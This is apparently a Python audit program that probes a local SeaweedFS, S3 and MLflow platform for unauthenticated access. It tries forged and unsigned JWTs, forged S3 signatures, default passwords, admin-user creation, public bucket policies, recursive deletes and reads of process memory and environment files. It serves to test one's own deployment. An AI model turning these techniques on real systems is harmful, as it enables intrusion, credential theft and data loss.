"""Tries, without any credential, to read, change and delete through every port of a platform. A program: JSON on stdin, JSON on stdout.

Standard library, `openssl` and `weed` only, so that it runs as any user. The request holds `ports` ({role: [port]}), all ports that are
listened on (`listening`), `bucket`, `key`, `marker` (text in the object), `fid` (the id of its blob, as somebody who had read a log would
know it), `access_key` (a known key's name), `weed`, `sockets`, `pids`, `paths` (files to read) and `data_dir`; `stranger` says whether this
runs as another user than the services. The answer is a list of [where, what, succeeded, detail]: succeeded is None for what is open on
purpose.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import hmac
import http.client
import json
import os
import pathlib
import re
import socket
import ssl
import subprocess
import sys
import tempfile
import time

HOST = "127.0.0.1"
# RFC 9113: the client preface and an empty SETTINGS frame
H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
PPROF = ("/debug/pprof/", "/debug/pprof/heap", "/debug/pprof/cmdline", "/debug/vars")
NONE_JWT = "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.e30."
FORM = b'--x\r\nContent-Disposition: form-data; name="file"; filename="evil"\r\n\r\nevil\r\n--x--\r\n'
FORM_TYPE = {"Content-Type": "multipart/form-data; boundary=x"}
# answered to anybody on purpose: they say that a process lives, or are the login itself
HARMLESS = {
    "master": {"/healthz", "/cluster/healthz"},
    "volume": {"/healthz", "/favicon.ico"},
    "filer": {"/healthz"},
    "s3": {"/healthz", "/status"},
    # the client asks for the server's abilities before it logs in
    "mlflow": {"/health", "/version", "/api/3.0/mlflow/server-info"},
    "public": {"/health", "/version", "/api/3.0/mlflow/server-info"},
    "internal": {"/ping"},
}


def no_check():
    """Return a TLS context that accepts any server: an attacker does not mind."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def fetch(port, method, path, body=None, headers=None, tls=False):
    """Return (status, body); status 0 where no HTTP answer came."""
    kind = http.client.HTTPSConnection if tls else http.client.HTTPConnection
    connection = kind(HOST, port, timeout=10, **({"context": no_check()} if tls else {}))
    try:
        connection.request(method, path, body, headers or {})
        answer = connection.getresponse()
        return answer.status, answer.read(2_000_000)
    except (OSError, http.client.HTTPException, ValueError) as error:
        return 0, repr(error).encode()
    finally:
        connection.close()


def first_byte(path):
    """Read one byte of a file."""
    with path.open("rb") as stream:
        stream.read(1)


def forged(key, fid):
    """Return a SeaweedFS write token signed with `key`."""

    def part(data):
        return base64.urlsafe_b64encode(data).rstrip(b"=")

    claims = json.dumps({"fid": fid, "exp": int(time.time()) + 600}).encode()
    signed = part(b'{"alg":"HS256","typ":"JWT"}') + b"." + part(claims)
    return (signed + b"." + part(hmac.new(key, signed, hashlib.sha256).digest())).decode()


def s3_signatures(access_key, port):
    """Return headers that claim to be somebody, by name."""
    stamp = time.strftime("%Y%m%dT%H%M%SZ", time.gmtime())
    scope = f"{stamp[:8]}/us-east-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature={'0' * 64}"
    values = {
        "forged SigV4, unknown key": f"AWS4-HMAC-SHA256 Credential=AKIDNOBODY/{scope}",
        "forged SigV4, known key": f"AWS4-HMAC-SHA256 Credential={access_key}/{scope}",
        "forged SigV2": f"AWS {access_key}:AAAAAAAAAAAAAAAAAAAAAAAAAAA=",
        "JWT without a signature": f"Bearer {NONE_JWT}",
        "guessed password": "Basic " + base64.b64encode(b"admin:admin").decode(),
    }
    common = {"x-amz-date": stamp, "Host": f"{HOST}:{port}", "x-amz-content-sha256": "UNSIGNED-PAYLOAD"}
    return {name: {"Authorization": value, **common} for name, value in values.items()}


def table(role, ask, port):
    """Return the attempts on a port of `role` as (method, path, body, headers), those that destroy last."""
    bucket, key, fid = ask["bucket"], ask["key"], ask["fid"]
    place = f"/{bucket}/{key}"
    gets, rest = [], []
    if role == "master":
        gets = ["/dir/status", "/vol/status", "/vol/list", "/cluster/status", "/cluster/ps", "/stats/memory", "/metrics", "/ui/index.html"]
        gets += ["/raft/stats", f"/dir/lookup?fileId={fid}&read=yes", f"/dir/assign?collection={bucket}", f"/{fid}", "/healthz", *PPROF]
        rest = [("POST", "/submit", FORM, FORM_TYPE), ("GET", "/vol/grow?count=1&collection=evil", None, {})]
        rest += [("GET", f"/col/delete?collection={bucket}", None, {})]
    elif role == "volume":
        gets = ["/status", "/ui/index.html", "/stats/disk", "/metrics", f"/{fid}", f"/{fid}?readDeleted=true", "/healthz", *PPROF]
        tokens = [{}, {"Authorization": f"Bearer {NONE_JWT}"}, {"Authorization": f"Bearer {forged(b'', fid)}"}]
        rest = [("GET", f"/{fid}", None, token) for token in tokens[1:]]
        rest += [(method, f"/{fid}", FORM, {**FORM_TYPE, **token}) for method in ("POST", "PUT") for token in tokens]
        rest += [("DELETE", f"/{fid}{end}", None, token) for token in tokens for end in ("", "?type=replicate")]
    elif role == "filer":
        gets = [f"/buckets{place}", f"/buckets/{bucket}/", "/buckets/?pretty=y", "/", "/etc/", "/etc/iam/identity.json", "/metrics", *PPROF]
        gets += ["/etc/seaweedfs/filer.conf", f"/buckets{place}?metadata=true", "/healthz"]
        rest = [("POST", f"/buckets/{bucket}/evil", FORM, FORM_TYPE), ("PUT", f"/buckets/{bucket}/evil", b"evil", {})]
        rest += [("POST", f"/buckets/{bucket}/x?{verb}.from=/buckets{place}", None, {}) for verb in ("cp", "mv")]
        rest += [("PUT", f"/buckets{place}?tagging", None, {"Seaweed-Evil": "1"}), ("DELETE", f"/buckets{place}", None, {})]
        rest += [("DELETE", f"/buckets/{bucket}?recursive=true&ignoreRecursiveError=true", None, {})]
    elif role == "s3":
        gets = ["/", f"/{bucket}", place, "/metrics", *PPROF]
        gets += [f"/{bucket}?{what}" for what in ("versions", "policy", "acl", "uploads", "list-type=2")]
        gets += ["/?Action=ListUsers&Version=2010-05-08", "/healthz", "/status"]
        signatures = s3_signatures(ask["access_key"], port)
        rest = [("GET", place, None, headers) for headers in signatures.values()]
        rest += [("PUT", f"/{bucket}/evil", b"evil", headers) for headers in [{}, *signatures.values()]]
        rest += [("POST", f"/{bucket}/evil?uploads", None, {}), ("PUT", "/evilbucket", None, {})]
        rest += [("PUT", f"/{bucket}/evil", None, {"x-amz-copy-source": place})]
        rest += [("PUT", f"/{bucket}?acl", None, {"x-amz-acl": "public-read-write"})]
        policy = {"Effect": "Allow", "Principal": "*", "Action": "s3:*", "Resource": f"arn:aws:s3:::{bucket}/*"}
        rest += [("PUT", f"/{bucket}?policy", json.dumps({"Version": "2012-10-17", "Statement": [policy]}), {})]
        suspended = "<VersioningConfiguration><Status>Suspended</Status></VersioningConfiguration>"
        rest += [("PUT", f"/{bucket}?versioning", suspended, {})]
        web = {"Content-Type": "application/x-www-form-urlencoded"}
        for action in ("CreateUser&UserName=evil", "CreateAccessKey&UserName=evil", "ListUsers", "GetFederationToken&Name=x"):
            rest += [("POST", "/", f"Action={action}&Version=2010-05-08", web)]
        rest += [("POST", f"/{bucket}?delete", f"<Delete><Object><Key>{key}</Key></Object></Delete>", {})]
        rest += [("DELETE", path, None, headers) for path in (place, f"/{bucket}") for headers in [{}, *signatures.values()]]
    elif role in ("mlflow", "public"):
        api = "/api/2.0/mlflow"
        artifacts = "/api/2.0/mlflow-artifacts/artifacts"
        stored = f"{artifacts}/{key.split('/', 1)[1]}"
        gets = ["/", "/metrics", "/health", "/version", "/signup", "/openapi.json", "/docs", stored, f"{artifacts}?path=", "/graphql"]
        gets += [f"{api}/{what}" for what in ("experiments/search?max_results=1", "users/get?username=admin", "users/list")]
        gets += [f"{api}/registered-models/search", "/ajax-api/2.0/mlflow/experiments/search?max_results=1"]
        gets += ["/get-artifact?path=x&run_uuid=x", "/api/3.0/mlflow/server-info", "/ajax-api/2.0/mlflow/gateway-proxy"]
        pairs = ("admin:password1234", "admin:", "admin:admin", ":", "evil:x")
        bad = [f"Basic {base64.b64encode(pair.encode()).decode()}" for pair in pairs] + [f"Bearer {NONE_JWT}"]
        rest = [("GET", f"{api}/experiments/search?max_results=1", None, {"Authorization": value}) for value in bad]
        text = {"Content-Type": "application/json"}
        for path, body in (
            ("runs/create", {"experiment_id": "0", "start_time": 1}),
            ("experiments/create", {"name": "evil"}),
            ("users/create", {"username": "evil", "password": "evil evil evil"}),
            ("users/update-admin", {"username": "evil", "is_admin": True}),
            ("experiments/delete", {"experiment_id": "0"}),
        ):
            rest += [("POST", f"{api}/{path}", json.dumps(body), text)]
        rest += [("POST", "/graphql", json.dumps({"query": '{mlflowSearchRuns(input:{experimentIds:["0"]}){runs{info{runId}}}}'}), text)]
        rest += [("PUT", f"{artifacts}/evil", b"evil", {}), ("DELETE", stored, None, {})]
        rest += [("POST", "/v1/traces", b"", {"Content-Type": "application/x-protobuf", "x-mlflow-experiment-id": "0"})]
    elif role == "internal":
        gets = ["/", "/api/rawdata", "/api/overview", "/dashboard/", "/metrics", "/ping", *PPROF]
        gets += [f"/mlflow/{number}/metrics" for number in ask["ports"].get("mlflow", [])]
        rest = [("GET", path, None, {"Authorization": "Basic " + base64.b64encode(b"mlops:mlops").decode()}) for path in gets[1:5]]
        rest += [("PUT", "/api/providers/rest", b"{}", {}), ("POST", "/-/quit", None, {})]
    else:
        gets = ["/", "/metrics", "/status", *PPROF]
    return [("GET", path, None, {}) for path in gets] + rest


class Attack:
    """All attempts, with their outcome in `rows`."""

    def __init__(self, ask):
        self.ask, self.rows = ask, []

    def note(self, where, what, succeeded, detail=""):
        self.rows.append([where, what, succeeded, re.sub(r"\s+", " ", str(detail))[:200]])

    def attempt(self, where, what, action):
        """Note `action` as a success of the attacker unless the operating system refuses it."""
        try:
            action()
        except OSError as error:
            self.note(where, what, False, error)
        else:
            self.note(where, what, True)

    def http(self, role, port):
        """Take the role's table, with and without TLS; an answer below 400 is a success, and so is the object's text in any."""
        for method, path, body, headers in table(role, self.ask, port):
            for tls in (False, True):
                status, answer = fetch(port, method, path, body, headers, tls)
                held = self.ask["marker"].encode() in answer
                good = held or 200 <= status < 400
                plain = path.split("?")[0]
                if good and not held and method == "GET" and plain in HARMLESS.get(role, ()):
                    good = None
                self.note(f"{role}:{port}{' TLS' if tls else ''}", f"{method} {path}"[:110], good, f"{status} {answer[:120]!r}")

    def h2(self, port, certificate):
        """Ask whether gRPC is open: plain, by TLS without a certificate, with one of our own making."""

        def speaks(stream):
            stream.settimeout(4)
            stream.sendall(H2_PREFACE)
            data = b""
            while len(data) < 9:
                chunk = stream.recv(4096)
                if not chunk:
                    return False
                data += chunk
            # type 4: the server's SETTINGS, so it talks to us
            return data[3] == 4

        opened = ""
        for name, tls, files in (("plain", False, None), ("TLS", True, None), ("TLS, foreign certificate", True, certificate)):
            with contextlib.suppress(OSError), contextlib.ExitStack() as stack:
                stream = stack.enter_context(socket.create_connection((HOST, port), 4))
                if tls:
                    context = no_check()
                    context.set_alpn_protocols(["h2"])
                    if files:
                        context.load_cert_chain(*files)
                    stream = stack.enter_context(context.wrap_socket(stream))
                if speaks(stream):
                    opened += f" {name}"
        self.note(f"port {port}", "HTTP/2 or gRPC without credentials", bool(opened), opened)

    def weed_shell(self, home):
        """Use SeaweedFS's own administration tool without its certificate. It hangs where it is shut out, so one session has to do."""
        ask = self.ask
        master, filer = ask["ports"]["master"][0], ask["ports"]["filer"][0]
        place = f"/buckets/{ask['bucket']}"
        commands = ["lock", "cluster.ps", f"fs.ls {place}", f"fs.cat {place}/{ask['key']}", "s3.bucket.list"]
        commands += ["s3.configure -user=evil -access_key=evil -secret_key=evil -actions=Admin -apply"]
        commands += [f"fs.rm -rf {place}/{ask['key']}", f"s3.bucket.delete -name {ask['bucket']}"]
        try:
            done = subprocess.run(
                [ask["weed"], "shell", f"-master={HOST}:{master}", f"-filer={HOST}:{filer}"],
                input="\n".join([*commands, "unlock", "exit", ""]).encode(),
                stdout=subprocess.PIPE,
                stderr=subprocess.STDOUT,
                env={"HOME": home, "PATH": "/usr/bin:/bin"},
                cwd=home,
                timeout=10,
                check=False,
            )
            answer = done.stdout
        except subprocess.TimeoutExpired as late:
            answer = late.stdout or b""
        except OSError as error:
            self.note("weed shell", "start the program", True, f"cannot run {ask['weed']}, so nothing is proved: {error}")
            return
        text = answer.decode(errors="replace")
        told = [word for word in (ask["marker"], "filers", "size:", "secret_key", "deleted") if word in text]
        self.note("weed shell", "read, configure, delete", bool(told), f"{told} {text[-150:]}")

    def files(self):
        """Read and write below the data directory, and reach into the processes."""
        data_dir = self.ask["data_dir"]
        for path in map(pathlib.Path, [data_dir, *self.ask["paths"]]):
            self.attempt("file", f"list {path}", lambda p=path: list(p.iterdir()))
            self.attempt("file", f"read {path}", lambda p=path: first_byte(p))
            self.attempt("file", f"write {path}", lambda p=path: p.open("ab").close())
        self.attempt("file", "make a directory", pathlib.Path(data_dir, "evil").mkdir)
        for pid in self.ask["pids"]:
            place = pathlib.Path("/proc", str(pid))
            for name in ("environ", "mem"):
                self.attempt("process", f"read {place / name}", lambda p=place / name: first_byte(p))
            self.attempt("process", f"list {place}/fd", lambda p=place: list((p / "fd").iterdir()))
            self.attempt("process", f"follow {place}/cwd", (place / "cwd").readlink)
            # 0 asks only whether a signal would be allowed
            self.attempt("process", f"signal {pid}", lambda p=pid: os.kill(p, 0))

    def unix(self):
        """Connect to the services' Unix sockets: one that can be connected to is a success unless it is gRPC behind mutual TLS."""
        for path in self.ask["sockets"]:
            try:
                with socket.socket(socket.AF_UNIX) as stream:
                    stream.settimeout(4)
                    stream.connect(path)
                self.note("unix socket", path, True)
            except OSError as error:
                self.note("unix socket", path, False, error)

    def run(self):
        """Make every attempt; return the rows."""
        roles = {port: role for role, ports in self.ask["ports"].items() for port in ports}
        with tempfile.TemporaryDirectory() as home:
            key, crt = f"{home}/k.pem", f"{home}/c.pem"
            make = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=seaweedfs.mlops.internal"]
            subprocess.run([*make, "-keyout", key, "-out", crt], check=True, capture_output=True)
            for port in self.ask["listening"]:
                if roles.get(port) not in ("public", "internal", "mlflow"):
                    self.h2(port, (crt, key))
            if self.ask["stranger"]:
                self.files()
                self.unix()
            for port in self.ask["listening"]:
                if roles.get(port) != "postgresql":
                    self.http(roles.get(port, "other"), port)
            if self.ask["weed"]:
                self.weed_shell(home)
        return self.rows


if __name__ == "__main__":
    json.dump(Attack(json.load(sys.stdin)).run(), sys.stdout)
